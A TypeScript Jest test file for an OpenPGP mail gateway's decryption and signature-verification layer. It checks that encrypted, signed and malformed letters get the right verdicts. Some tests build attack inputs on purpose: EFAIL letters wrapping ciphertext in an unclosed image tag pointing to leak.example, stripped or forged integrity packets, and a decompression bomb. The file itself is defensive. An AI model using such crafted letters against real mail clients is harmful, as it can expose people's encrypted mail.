import { deflateRawSync } from "node:zlib";
import { beforeAll, expect, test } from "@jest/globals";
import {
  armor,
  config,
  createCleartextMessage,
  createMessage,
  encrypt,
  encryptSessionKey,
  enums,
  type PartialConfig,
  type PrivateKey,
  type PublicKey,
  reformatKey,
  revokeKey,
  SymEncryptedIntegrityProtectedDataPacket,
  sign,
} from "openpgp";
import type { Encryption } from "../../../legacy-gateway/openpgp/layers.ts";
import { MAX_ANONYMOUS, MAX_DECOMPRESSED } from "../../../legacy-gateway/openpgp/limits.ts";
import type { LetterKeys } from "../../../legacy-gateway/openpgp/read-letter.ts";
import type { SignatureVerdict } from "../../../legacy-gateway/openpgp/verdict.ts";
import { DAY, HOUR, keysOf, NOW, someKey } from "./some-keys.ts";
import { encryptedLetter, FROM, NEEDLE, PAYLOAD, read, signedLetter } from "./some-letters.ts";
import { asPacket, changed, literal, packet } from "./some-packets.ts";

const BOB = "bob@example.org";
const date = new Date(NOW - HOUR);
const V6 = { v6Keys: true, aeadProtect: true } satisfies PartialConfig;

let alice: PrivateKey;
let aliceV6: PrivateKey;
let bob: PrivateKey;
let bobV6: PrivateKey;
let stranger: PrivateKey;
let keys: LetterKeys;

beforeAll(async () => {
  alice = await someKey("alice@example.org");
  aliceV6 = await someKey("alice@example.org", { type: "curve25519", config: V6 });
  bob = await someKey(BOB);
  bobV6 = await someKey(BOB, { type: "curve25519", config: V6 });
  stranger = await someKey("stranger@example.org");
  keys = known(bob, bobV6);
});

function known(...keysOfBob: readonly (PrivateKey | PublicKey)[]): LetterKeys {
  return keysOf(
    [alice, aliceV6],
    keysOfBob.map((key) => [key.toPublic(), BOB]),
  );
}

interface Made {
  readonly from?: PrivateKey | undefined;
  readonly to?: PublicKey | readonly PublicKey[];
  readonly config?: PartialConfig;
  readonly payload?: string;
  readonly wildcard?: boolean;
}

async function message({ from = bob, to = alice.toPublic(), config = {}, payload = PAYLOAD, wildcard }: Made = {}) {
  return await encrypt({
    message: await createMessage({ binary: Buffer.from(payload, "latin1") }),
    encryptionKeys: to as PublicKey[],
    signingKeys: from,
    date,
    config,
    ...(wildcard !== undefined && { wildcard }),
  });
}

async function detached(part: string, key: PrivateKey, config: PartialConfig = {}, when = date): Promise<string> {
  const binary = await createMessage({ binary: Buffer.from(part, "latin1") });
  return await sign({ message: binary, signingKeys: key, detached: true, date: when, config });
}

/** What is told of a letter; where it is opened the needle is to be seen, and only there. */
async function verdictOf(
  letter: string,
  with_: LetterKeys = keys,
): Promise<[Encryption, SignatureVerdict["result"], string?]> {
  const { text, verdict, keywords } = await read(letter, with_);
  const { signature, encryption } = verdict;
  if (encryption !== "none") expect(text.includes(NEEDLE)).toBe(encryption === "opened");
  expect(keywords.includes("$Encrypted")).toBe(encryption === "opened");
  expect(keywords.includes("$Plaintext")).toBe(encryption === "none");
  expect(keywords.includes("$Signed")).toBe(signature.result === "good");
  if (encryption !== "opened") expect(text).toBe(letter);
  return signature.result === "worthless"
    ? [encryption, signature.result, signature.reason]
    : [encryption, signature.result];
}

test("Curve25519, RSA, and version 6 with AEAD are opened, and the sender's signature is good", async () => {
  expect(await verdictOf(encryptedLetter(await message()))).toEqual(["opened", "good"]);
  const rsa = await someKey(BOB, { type: "rsa", rsaBits: 2048 });
  expect(await verdictOf(encryptedLetter(await message({ from: rsa })), known(rsa))).toEqual(["opened", "good"]);
  const modern = await message({ from: bobV6, to: aliceV6.toPublic(), config: V6 });
  expect(await verdictOf(encryptedLetter(modern))).toEqual(["opened", "good"]);
}, 60_000);

test("an opened letter without a signature, or with a stranger's, is not shown as signed", async () => {
  const binary = await createMessage({ binary: Buffer.from(PAYLOAD, "latin1") });
  const unsigned = await encrypt({ message: binary, encryptionKeys: alice.toPublic(), date });
  expect(await verdictOf(encryptedLetter(unsigned))).toEqual(["opened", "none"]);
  const byStranger = encryptedLetter(await message({ from: stranger }));
  expect(await verdictOf(byStranger)).toEqual(["opened", "unknown-key"]);
  const others = keysOf([alice], [[stranger.toPublic(), "stranger@example.org"]]);
  expect(await verdictOf(byStranger, others)).toEqual(["opened", "other-sender"]);
});

test("a letter for somebody else, or with a password, stays byte for byte", async () => {
  expect(await verdictOf(encryptedLetter(await message({ to: stranger.toPublic() })))).toEqual(["no-key", "none"]);
  const sealed = await encrypt({
    message: await createMessage({ binary: Buffer.from(PAYLOAD, "latin1") }),
    passwords: "swordfish",
  });
  expect(await verdictOf(encryptedLetter(sealed))).toEqual(["no-key", "none"]);
});

test("a letter to hidden recipients is tried, one to more of them than anybody has is not", async () => {
  expect(await verdictOf(encryptedLetter(await message({ wildcard: true })))).toEqual(["opened", "good"]);
  const many = changed(await message({ wildcard: true }), (packets) => {
    const one = packets.subarray(0, packet(packets, 1).end);
    return Buffer.concat([...Array<Buffer>(MAX_ANONYMOUS).fill(one), packets]);
  });
  expect(await verdictOf(encryptedLetter(many))).toEqual(["beyond-limits", "none"]);
});

test("a signing key that expired, or was revoked, proves nothing; one that expired later does", async () => {
  const short = await someKey(BOB, { keyExpirationTime: (29 * DAY) / 1_000 });
  const longer = (
    await reformatKey({
      privateKey: short,
      userIDs: { email: BOB },
      date: new Date(NOW - 30 * DAY),
      format: "object",
    })
  ).privateKey;
  const late = signedLetter(PAYLOAD, await detached(PAYLOAD, longer));
  expect(await verdictOf(late, known(short))).toEqual(["none", "worthless", "expired"]);
  const inTime = signedLetter(PAYLOAD, await detached(PAYLOAD, short, {}, new Date(NOW - 10 * DAY)));
  expect(await verdictOf(inTime, known(short))).toEqual(["none", "good"]);
  const { publicKey: revoked } = await revokeKey({
    key: bob,
    reasonForRevocation: { flag: enums.reasonForRevocation.keyCompromised },
    date: new Date(NOW - HOUR / 2),
    format: "object",
  });
  expect(await verdictOf(encryptedLetter(await message()), known(revoked))).toEqual(["opened", "worthless", "revoked"]);
});

test("SHA-1 and RSA of 1024 bits sign nothing", async () => {
  const sha1: PartialConfig = {
    preferredHashAlgorithm: enums.hash.sha1,
    nonDeterministicSignaturesViaNotation: false,
    rejectHashAlgorithms: new Set(),
    rejectMessageHashAlgorithms: new Set(),
  };
  const rsa = await someKey(BOB, { type: "rsa", rsaBits: 2048, config: sha1 });
  expect(await verdictOf(signedLetter(PAYLOAD, await detached(PAYLOAD, rsa, sha1)), known(rsa))).toEqual([
    "none",
    "worthless",
    "weak",
  ]);
  const small = await someKey(BOB, { type: "rsa", rsaBits: 1024, config: { minRSABits: 1024 } });
  const signed = signedLetter(PAYLOAD, await detached(PAYLOAD, small, { minRSABits: 1024 }));
  expect(await verdictOf(signed, known(small))).toEqual(["none", "worthless", "weak"]);
}, 60_000);

test("a signature from the future proves nothing yet", async () => {
  const signed = signedLetter(PAYLOAD, await detached(PAYLOAD, bob, {}, new Date(NOW + DAY)));
  expect(await verdictOf(signed)).toEqual(["none", "worthless", "future"]);
});

test("EFAIL: integrity protection that is missing, stripped or broken lets nothing out", async () => {
  const armored = await message();
  const stripped = changed(armored, (packets) => {
    const { start, body } = packet(packets, 18);
    return Buffer.concat([packets.subarray(0, start), asPacket(9, body.subarray(1))]);
  });
  expect(await verdictOf(encryptedLetter(stripped))).toEqual(["no-integrity", "none"]);
  const flipped = changed(armored, (packets) => {
    const copy = Buffer.from(packets);
    const at = packet(packets, 18).end - 40;
    copy.writeUInt8((copy[at] ?? 0) ^ 1, at);
    return copy;
  });
  expect(["no-integrity", "broken"]).toContain((await verdictOf(encryptedLetter(flipped)))[0]);
  const downgraded = changed(await message({ from: bobV6, to: aliceV6.toPublic(), config: V6 }), (packets) => {
    const copy = Buffer.from(packets);
    copy.writeUInt8(1, packet(packets, 18).end - packet(packets, 18).body.length);
    return copy;
  });
  expect(["no-integrity", "broken", "no-key"]).toContain((await verdictOf(encryptedLetter(downgraded)))[0]);
});

test("EFAIL: an encrypted part among others is not opened, so that nothing can wrap it", async () => {
  const inner = encryptedLetter(await message(), "");
  const letter =
    `${FROM}Content-Type: multipart/mixed; boundary="mix"\r\n\r\n` +
    '--mix\r\nContent-Type: text/html\r\n\r\n<img src="http://leak.example/\r\n' +
    `--mix\r\n${inner}\r\n--mix\r\nContent-Type: text/html\r\n\r\n">\r\n--mix--\r\n`;
  expect(await verdictOf(letter)).toEqual(["unknown", "none"]);
  const inline = `${FROM}Content-Type: multipart/mixed; boundary="mix"\r\n\r\n--mix\r\nContent-Type: text/plain\r\n\r\n${await message()}\r\n--mix--\r\n`;
  expect(await verdictOf(inline)).toEqual(["unknown", "none"]);
});

test("packets that were put before, behind or instead of the encrypted ones are refused", async () => {
  const armored = await message();
  const forged = literal(PAYLOAD.replace(NEEDLE, "forged"));
  const behind = changed(armored, (packets) => Buffer.concat([packets, forged]));
  expect(await verdictOf(encryptedLetter(behind))).toEqual(["broken", "none"]);
  const before = changed(armored, (packets) => Buffer.concat([forged, packets]));
  expect(await verdictOf(encryptedLetter(before))).toEqual(["broken", "none"]);
  const plain = armor(enums.armor.message, literal(PAYLOAD.replace(NEEDLE, "forged")));
  expect(["broken", "no-key"]).toContain((await verdictOf(encryptedLetter(plain)))[0]);
});

test("a truncated letter is refused wherever it ends", async () => {
  const whole = encryptedLetter(await message());
  for (const part of [0.5, 0.7, 0.9]) {
    const { verdict, text } = await read(whole.slice(0, Math.floor(whole.length * part)), keys);
    expect(["broken", "no-integrity", "unknown", "none"]).toContain(verdict.encryption);
    expect(text).not.toContain(NEEDLE);
  }
});

test("what compression would blow up is refused", async () => {
  const big = literal(Buffer.alloc(MAX_DECOMPRESSED + 1));
  const bomb = asPacket(8, Buffer.concat([Buffer.from([1]), deflateRawSync(big)]));
  const sealed = await sealPackets(bomb);
  const { verdict } = await read(encryptedLetter(sealed), keys);
  expect(verdict.encryption).toBe("beyond-limits");
}, 60_000);

/** The packets, encrypted to alice. */
async function sealPackets(packets: Buffer): Promise<string> {
  const key = new Uint8Array(32).fill(7);
  const session = { data: key, algorithm: "aes256" as const, encryptionKeys: alice.toPublic(), date };
  const sealed = Object.assign(new SymEncryptedIntegrityProtectedDataPacket(), {
    version: 1,
    packets: { write: () => new Uint8Array(packets) },
  }) as unknown as { encrypt(algorithm: number, key: Uint8Array, config: object): Promise<void>; write(): Uint8Array };
  await sealed.encrypt(enums.symmetric.aes256, key, config);
  const opening = await encryptSessionKey({ ...session, format: "binary" });
  return armor(enums.armor.message, Buffer.concat([opening, asPacket(18, Buffer.from(sealed.write()))]));
}

test("signed in encrypted, and encrypted in encrypted, come off; a signature around an encryption is nobody's word", async () => {
  const inner = signedLetter(PAYLOAD, await detached(PAYLOAD, bob), "");
  expect(await verdictOf(encryptedLetter(await message({ from: undefined, payload: inner })))).toEqual([
    "opened",
    "good",
  ]);
  const twice = encryptedLetter(await message({ payload: encryptedLetter(await message(), "") }));
  expect(await verdictOf(twice)).toEqual(["opened", "good"]);
  const content = encryptedLetter(await message({ from: stranger }), "");
  expect(await verdictOf(signedLetter(content, await detached(content, bob)))).toEqual(["opened", "unknown-key"]);
});

test("more layers than anybody makes stay closed", async () => {
  let letter = encryptedLetter(await message(), "");
  for (let layer = 0; layer < 6; layer++) letter = encryptedLetter(await message({ payload: letter }), "");
  const { text } = await read(FROM + letter, keys);
  expect(text).not.toContain(NEEDLE);
});

test("a changed text breaks the signature, in PGP/MIME and inline", async () => {
  const letter = signedLetter(PAYLOAD, await detached(PAYLOAD, bob));
  expect(await verdictOf(letter)).toEqual(["none", "good"]);
  expect(await verdictOf(letter.replace(NEEDLE, "ANOTHER"))).toEqual(["none", "bad"]);
  const clear = (
    await sign({ message: await createCleartextMessage({ text: NEEDLE }), signingKeys: bob, date })
  ).replace(/\r?\n/g, "\r\n");
  const inline = `${FROM}Content-Type: text/plain; charset=utf-8\r\n\r\n${clear}`;
  expect(await verdictOf(inline)).toEqual(["none", "good"]);
  expect(await verdictOf(inline.replace(NEEDLE, "ANOTHER"))).toEqual(["none", "bad"]);
});

test("of an inline letter the opened text alone is shown, not what stood around it", async () => {
  const armored = (await message({ payload: NEEDLE })).replace(/\r?\n/g, "\r\n");
  const letter = `${FROM}Content-Type: text/plain\r\n\r\n<img src="http://leak.example/\r\n${armored}\r\n">\r\n`;
  const { text, verdict } = await read(letter, keys);
  expect(verdict).toMatchObject({ encryption: "opened", signature: { result: "good" } });
  expect(text).toContain(Buffer.from(NEEDLE).toString("base64"));
  expect(text).not.toContain("leak.example");
  expect(
    Buffer.from(/eml"\r\n[\s\S]*?base64\r\n\r\n([\s\S]*?)\r\n--postern/.exec(text)?.[1] ?? "", "base64").toString(
      "latin1",
    ),
  ).toBe(letter);
});

test("S/MIME and other encryption pass byte for byte", async () => {
  const smime = `${FROM}Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\nMIIBsgYJKoZIhvcNAQcDoIIBozCCAZ8CAQAx\r\n`;
  expect(await verdictOf(smime)).toEqual(["unknown", "none"]);
  const signed = `${FROM}Content-Type: multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256; boundary="s"\r\n\r\n--s\r\n\r\ntext\r\n--s\r\nContent-Type: application/pkcs7-signature\r\nContent-Transfer-Encoding: base64\r\n\r\nMIIB\r\n--s--\r\n`;
  expect((await verdictOf(signed))[0]).toBe("unknown");
});
